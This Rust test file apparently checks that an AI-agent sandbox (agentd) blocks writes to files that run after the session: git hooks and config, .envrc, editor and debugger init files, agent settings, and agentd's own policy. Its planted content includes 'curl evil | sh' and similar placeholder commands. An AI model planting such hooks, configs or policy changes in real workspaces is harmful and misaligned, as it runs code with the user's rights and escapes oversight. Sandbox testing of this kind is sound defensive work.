//! Files of the workspace that programs outside run or obey, after the session and with the caller's rights: hooks,
//! settings of editors and agents, agentd's own files.

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};

use super::done;
use crate::case::{Case, Effect, Opening, Try};
use crate::raw::{Refused, call};
use crate::scene::{Scene, c};

const HOOK: &str = "#!/bin/sh\ncurl evil | sh\n";

const fn of(id: &'static str, name: &'static str, run: fn(&Scene) -> Try) -> Case {
    Case::new(id, name, run).effect(Effect::Workspace(name))
}

pub const CASES: &[Case] = &[
    of("cf_hook_write", ".git/hooks/pre-commit", |s| {
        overwrite(s, ".git/hooks/pre-commit", HOOK)
    }),
    of("cf_hook_new", ".git/hooks/post-checkout", |s| {
        make(s, ".git/hooks/post-checkout", HOOK)
    }),
    of("cf_hook_chmod", ".git/hooks", |s| {
        fs::set_permissions(s.work.join(".git/hooks"), fs::Permissions::from_mode(0o777))?;
        done("changed")
    }),
    of("cf_hook_link", ".git/hooks/pre-push", |s| {
        make(s, "own/hook", HOOK)?;
        symlink("../../own/hook", s.work.join(".git/hooks/pre-push"))?;
        done("linked")
    }),
    Case::new(
        "cf_hooks_rename",
        "move .git/hooks away and put another in its place",
        |s| swapped(s, ".git/hooks", "pre-commit"),
    ),
    Case::new(
        "fs_git_rename",
        "move .git away and put another in its place",
        |s| swapped(s, ".git", "hooks"),
    ),
    Case::new(
        "cf_hooks_exchange",
        "exchange .git/hooks with a folder of one's own",
        |s| {
            let own = s.own();
            fs::create_dir_all(&own)?;
            let (a, b) = (c(s.work.join(".git/hooks")), c(&own));
            let exchange = || {
                call!(
                    libc::SYS_renameat2,
                    libc::AT_FDCWD,
                    a.as_c_str(),
                    libc::AT_FDCWD,
                    b.as_c_str(),
                    libc::RENAME_EXCHANGE
                )
            };
            exchange()?;
            // Back again: later cases want it.
            exchange()?;
            done("exchanged")
        },
    ),
    of("cf_git_config", ".git/config", |s| {
        overwrite(
            s,
            ".git/config",
            "[core]\n\tfsmonitor = evil\n\thooksPath = /tmp\n",
        )
    }),
    of("cf_git_config_worktree", ".git/config.worktree", |s| {
        make(s, ".git/config.worktree", "[core]\n\tpager = evil\n")
    }),
    of("cf_git_config_over", ".git/config", |s| {
        make(s, "own/config", "[core]\n\tsshCommand = evil\n")?;
        fs::rename(s.work.join("own/config"), s.work.join(".git/config"))?;
        done("replaced")
    }),
    of("cf_git_attributes", ".git/info/attributes", |s| {
        make(s, ".git/info/attributes", "* filter=evil\n")
    }),
    of(
        "cf_git_modules",
        ".git/modules/x/hooks/post-checkout",
        |s| make(s, ".git/modules/x/hooks/post-checkout", HOOK),
    )
    .opens(Opening::Has("fs.write", "${workspace}/.git/modules")),
    of(
        "cf_git_worktrees",
        ".git/worktrees/x/config.worktree",
        |s| make(s, ".git/worktrees/x/config.worktree", "[core]\n"),
    )
    .opens(Opening::Has("fs.write", "${workspace}/.git/worktrees")),
    of("cf_git_alternates", ".git/objects/info/alternates", |s| {
        make(
            s,
            ".git/objects/info/alternates",
            "/home/other/.git/objects\n",
        )
    }),
    of("cf_git_commondir", ".git/commondir", |s| {
        make(s, ".git/commondir", "/tmp/evil\n")
    })
    .opens(Opening::Has("fs.write", "${workspace}/.git/commondir")),
    of("fs_work_bashrc_new", ".envrc", |s| {
        make(s, ".envrc", "curl evil | sh\n")
    }),
    of("cf_claude_settings", ".claude/settings.json", |s| {
        overwrite(s, ".claude/settings.json", "{\"hooks\":{}}")
    }),
    of("cf_claude_local", ".claude/settings.local.json", |s| {
        make(s, ".claude/settings.local.json", "{\"permissions\":{}}")
    }),
    of("cf_claude_commands", ".claude/commands/x.md", |s| {
        make(s, ".claude/commands/x.md", "!evil\n")
    }),
    Case::new(
        "cf_claude_rename",
        "move .claude away and put another in its place",
        |s| swapped(s, ".claude", "settings.json"),
    ),
    of("cf_mcp", ".mcp.json", |s| {
        overwrite(s, ".mcp.json", "{\"mcpServers\":{}}")
    }),
    of("cf_codex", ".codex/config.toml", |s| {
        make(s, ".codex/config.toml", "notify = [\"evil\"]\n")
    }),
    of("cf_cursor", ".cursor/mcp.json", |s| {
        make(s, ".cursor/mcp.json", "{}")
    }),
    of("cf_gemini", ".gemini/settings.json", |s| {
        make(s, ".gemini/settings.json", "{}")
    }),
    of("cf_opencode", "opencode.json", |s| {
        make(s, "opencode.json", "{}")
    })
    .opens(Opening::Has("fs.write", "${workspace}/opencode.json")),
    of("cf_vscode_tasks", ".vscode/tasks.json", |s| {
        overwrite(s, ".vscode/tasks.json", "{\"tasks\":[]}")
    }),
    of("cf_vscode_settings", ".vscode/settings.json", |s| {
        overwrite(s, ".vscode/settings.json", "{\"terminal\":1}")
    }),
    of("cf_vscode_launch", ".vscode/launch.json", |s| {
        make(s, ".vscode/launch.json", "{}")
    }),
    of("cf_idea", ".idea/workspace.xml", |s| {
        make(s, ".idea/workspace.xml", "<x/>")
    }),
    of("cf_devcontainer", ".devcontainer/devcontainer.json", |s| {
        make(s, ".devcontainer/devcontainer.json", "{}")
    }),
    of("cf_husky", ".husky/pre-commit", |s| {
        make(s, ".husky/pre-commit", HOOK)
    }),
    of("cf_vimrc", ".exrc", |s| make(s, ".exrc", ":!evil\n")),
    of("cf_nvim", ".nvim.lua", |s| {
        make(s, ".nvim.lua", "os.execute('evil')")
    }),
    of("cf_gdbinit", ".gdbinit", |s| {
        make(s, ".gdbinit", "shell evil\n")
    }),
    of("cf_dir_locals", ".dir-locals.el", |s| {
        make(s, ".dir-locals.el", "((nil . ((eval . (evil)))))")
    }),
    of("X32", ".agentd/agent.toml", |s| {
        overwrite(
            s,
            ".agentd/agent.toml",
            "extends = \"base\"\n[fs]\nread = [\"/\"]\n",
        )
    }),
    of("cf_agentd_policy_new", ".agentd/policy.toml", |s| {
        make(s, ".agentd/policy.toml", "extends = \"base\"\n")
    }),
    Case::new(
        "X32_runtime",
        "agentd's own runtime directory",
        |s| match &s.runtime_dir {
            None => super::unavailable("no agentd runs here"),
            Some(folder) => {
                fs::write(folder.join(&s.case), "x")?;
                done("written")
            }
        },
    )
    .cannot("there is no agentd without a sandbox"),
    Case::new("X8", "the workspace itself made a link", |s| {
        let away = s.home.join("work.away");
        fs::rename(&s.work, &away)?;
        let linked = symlink("/", &s.work);
        if linked.is_ok() {
            fs::remove_file(&s.work)?;
        }
        fs::rename(&away, &s.work)?;
        linked?;
        done("swapped")
    }),
];

fn overwrite(s: &Scene, name: &str, text: &str) -> Try {
    let path = s.work.join(name);
    if let Err(error) = fs::write(&path, text) {
        // The other ways to the same end.
        let replaced = (|| {
            fs::write(s.own(), text)?;
            fs::rename(s.own(), &path).or_else(|_| {
                fs::remove_file(&path)?;
                fs::write(&path, text)
            })
        })();
        if replaced.is_err() {
            return Err(error.into());
        }
    }
    done("written")
}

fn make(s: &Scene, name: &str, text: &str) -> Try {
    let path = s.work.join(name);
    if let Some(folder) = path.parent() {
        fs::create_dir_all(folder)?;
    }
    fs::write(&path, text)?;
    done("made")
}

/// Moves a folder away, makes another with an entry of one's own under the same name, and puts it all back: later cases
/// want the first one.
fn swapped(s: &Scene, name: &str, entry: &str) -> Try {
    let (place, away) = (s.work.join(name), s.own());
    fs::rename(&place, &away)?;
    let made = fs::create_dir(&place).and_then(|()| fs::write(place.join(entry), HOOK));
    if made.is_ok() {
        fs::remove_file(place.join(entry))?;
    }
    if place.exists() {
        fs::remove_dir(&place)?;
    }
    fs::rename(&away, &place)?;
    if let Err(error) = made {
        return Err(Refused::from(error));
    }
    done("another stands in its place")
}
